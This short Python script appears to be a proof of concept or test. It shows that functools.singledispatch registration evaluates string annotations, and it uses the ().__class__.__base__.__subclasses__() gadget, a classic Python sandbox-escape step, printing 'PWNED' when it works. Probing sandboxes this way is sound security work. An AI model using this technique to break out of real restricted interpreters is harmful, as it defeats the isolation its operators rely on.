# The annotation by which a function is registered is text, which functools evaluates.
from __future__ import annotations

import functools

got = []


def steal(found):
    got.append(found)
    return int


@functools.singledispatch
def generic(x):
    pass


class Holder:
    @functools.singledispatchmethod
    def method(self, x):
        pass


def lure(x: steal(().__class__.__base__.__subclasses__())):
    pass


for register in (generic.register, Holder.__dict__["method"].register, Holder.__dict__["method"].dispatcher.register):
    try:
        register(lure)
    except Exception:
        pass
if got:
    print("PWNED", len(got[0]))
